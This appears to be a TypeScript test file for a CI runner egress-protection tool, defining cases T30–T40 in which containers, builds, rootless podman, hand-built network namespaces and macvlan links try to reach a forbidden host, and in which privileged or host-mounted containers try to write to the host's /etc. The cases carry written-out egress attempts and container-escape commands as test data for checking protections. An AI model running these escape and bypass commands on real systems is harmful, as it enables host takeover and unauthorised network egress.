// T30 to T40: containers, and what else makes networks and namespaces on a runner. Process ids are those of the machine
// under the tests: a case names only those of its own world, and never process 1.
import { ALLOWED, FORBIDDEN, GATEWAY, IMAGE, RUNNER } from "@lockstep/testkit/privileged";
import { attack } from "../attack.ts";
import { buildInContainer, POWERS, placeBuildx } from "../buildx.ts";
import type { Case } from "../case.ts";
import { askedForEvil, either, fileExists, flowTo, reachedEvil } from "../harm.ts";
import { prepareRootless, rootless } from "../rootless.ts";

const EVIL = FORBIDDEN.a;
/** By address, by name, and a name to a resolver of the container's choice. */
const TRY = `timeout 3 wget -qO- http://${EVIL}/; timeout 3 wget -qO- http://x.${FORBIDDEN.name}/; nslookup y.${FORBIDDEN.name} 8.8.8.8; ping -c 1 -W 1 ${EVIL}`;
/** The same in a build, which ends at the first failure otherwise. */
const BUILT = `${TRY.replaceAll("; ", " || ")} || true`;
const HARM = either(reachedEvil, askedForEvil);

/**
 * As root of a container with the host's programs: a namespace behind it, translated as container engines do. It enters
 * nothing by process id: the host's /proc counts otherwise than the container does. What tells that the namespace is there
 * lies in /run, which every machine has for itself.
 */
const NESTED = `docker run --rm ${POWERS} -v /:/host ${IMAGE} chroot /host bash -c '
ip link add inner0 type veth peer name inner1
iptables -t nat -A POSTROUTING -s 172.31.0.0/24 -j MASQUERADE
echo 1 > /proc/sys/net/ipv4/ip_forward
unshare --net sh -c "
  touch /run/nested
  until ip address add 172.31.0.2/24 dev inner1; do sleep 0.1; done
  ip link set inner1 up; sleep 0.5; ip route add default via 172.31.0.1
  busybox sh -c \\"${TRY}\\"" & nested=$!
until [ -e /run/nested ]; do sleep 0.05; done
ip link set inner1 netns $nested
ip address add 172.31.0.1/24 dev inner0
ip link set inner0 up
wait' || true`;

export const CONTAINER_CASES: readonly Case[] = [
  {
    id: "T30",
    title: "Containers on Docker's default bridge",
    outcome: "prevented",
    run: attack({
      docker: true,
      act: `docker run --rm ${IMAGE} sh -c '${TRY}'`,
      harm: HARM,
      sign: ({ report }) => report.blocked.some(({ addresses }) => addresses.includes(EVIL)),
    }),
  },
  {
    id: "T31",
    title: "Containers on a bridge that a step makes",
    outcome: "prevented",
    run: attack({
      docker: true,
      act: `docker network create --subnet 172.29.0.0/24 own; docker run --rm --network own ${IMAGE} sh -c '${TRY}'`,
      harm: HARM,
    }),
  },
  {
    id: "T32",
    title: "Containers on the host's network",
    outcome: "prevented",
    run: attack({ docker: true, act: `docker run --rm --network host ${IMAGE} sh -c '${TRY}'`, harm: HARM }),
  },
  {
    id: "T33",
    title: "A builder in a container (buildx, docker-container driver), and plain builds",
    outcome: "prevented",
    why: "Played by buildx with the builder of Docker's daemon, and with BuildKit in a container.",
    run: attack({
      docker: true,
      before: placeBuildx,
      act: (world) =>
        world.job.step(
          "attack",
          `
printf 'FROM ${IMAGE}\\nRUN ${BUILT}\\n' > Dockerfile
docker build --no-cache . || true
docker buildx build --no-cache . || true
${buildInContainer(BUILT)} || true`,
          { timeoutMs: 100_000 },
        ),
      harm: HARM,
    }),
  },
  {
    id: "T34",
    title: "Service containers that were started before protection",
    outcome: "prevented",
    run: attack({
      docker: true,
      before: (world) =>
        world.job.step(
          "service",
          `docker run -d ${IMAGE} sh -c 'while true; do timeout 1 wget -qO- http://${EVIL}/; sleep 0.2; done'`,
        ),
      act: "sleep 1",
      harm: reachedEvil,
    }),
  },
  {
    id: "T35",
    title: "Rootless containers, whose network is an ordinary process of the user",
    outcome: "prevented",
    why: "Played by podman with slirp4netns.",
    run: attack({
      before: prepareRootless,
      act: (world) => world.job.step("attack", rootless(`${TRY}; true`), { timeoutMs: 60_000 }),
      harm: HARM,
      sign: ({ report }) => report.blocked.some(({ program }) => program === "/usr/bin/slirp4netns"),
    }),
  },
  {
    id: "T36",
    title: "Networks that root makes by hand, as `ctr` and `nerdctl` do with their plugins",
    outcome: "prevented",
    run: attack({
      act: `
sudo sh -c '
ip link add cni0 type bridge; ip address add 10.88.0.1/16 dev cni0; ip link set cni0 up
unshare --net sleep 30 & nested=$!
until [ "$(readlink /proc/$nested/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do sleep 0.05; done
ip link add pod0 type veth peer name eth0 netns $nested
ip link set pod0 master cni0 up
nsenter -t $nested -n sh -c "ip address add 10.88.0.2/16 dev eth0; ip link set eth0 up; ip route add default via 10.88.0.1"
sysctl -qw net.ipv4.ip_forward=1
iptables -t nat -A POSTROUTING -s 10.88.0.0/16 -o eth0 -j MASQUERADE
iptables -P FORWARD ACCEPT
nsenter -t $nested -n busybox sh -c "${TRY}"
'`,
      harm: HARM,
    }),
  },
  {
    id: "T37",
    title: "Clusters in containers (kind, minikube): namespaces behind namespaces",
    outcome: "prevented",
    run: attack({ docker: true, act: NESTED, harm: HARM }),
  },
  {
    id: "T38",
    title: "Links of containers on the machine's own device (macvlan)",
    outcome: "prevented",
    why: "By rules on the links themselves, which take Linux 5.16.",
    run: attack({
      docker: true,
      act: `
docker network create -d macvlan --subnet 10.1.0.0/16 --gateway ${GATEWAY.a} -o parent=${RUNNER.link} direct
docker run --rm --network direct --ip 10.1.0.77 ${IMAGE} timeout 3 wget -qO- http://${EVIL}/`,
      harm: reachedEvil,
      sign: ({ report }) => report.detections.some(({ id }) => id === "link-added"),
    }),
  },
  {
    id: "T39",
    title: "A container with a resolver of its own choice",
    outcome: "prevented",
    run: attack({
      docker: true,
      act: `docker run --rm --dns 8.8.8.8 ${IMAGE} nslookup y.${FORBIDDEN.name}; docker run --rm --dns 8.8.8.8 ${IMAGE} nslookup ${ALLOWED.name}`,
      harm: either(askedForEvil, flowTo({ address: "8.8.8.8" })),
    }),
  },
  {
    id: "T40",
    title: "Containers that are root on the host: privileged, host namespaces, devices, mounts",
    outcome: "prevented",
    why: "With `containers: filter` or `disable`. With `containers: keep` it is root on the machine, as with sudo. Device files that an image brings along are a way to the disk that stays (told as `root-ways`).",
    run: attack({
      docker: true,
      inputs: { containers: "filter", sudo: "disable" },
      act: (world) =>
        world.job.step(
          "attack",
          `
write='touch /host/etc/taken'
docker run --rm --privileged -v /:/host ${IMAGE} sh -c "$write" || docker run --rm ${POWERS} -v /:/host ${IMAGE} sh -c "$write" || true
docker run --rm -v /etc:/host/etc ${IMAGE} sh -c "$write" || true
docker run --rm --mount type=bind,source=/,target=/host ${IMAGE} sh -c "$write" || true
docker run --rm ${POWERS} --pid host ${IMAGE} nsenter -t ${world.machine.pid} -m touch /etc/taken || true
docker run --rm --cap-add NET_ADMIN --network host ${IMAGE} ip link add taken0 type dummy || true
docker volume create --driver local -o type=none -o o=bind -o device=/etc all && docker run --rm -v all:/host/etc ${IMAGE} sh -c "$write" || true`,
          { timeoutMs: 60_000 },
        ),
      harm: fileExists("/etc/taken"),
      sign: ({ report }) => report.counts.blocked > 0,
    }),
  },
];
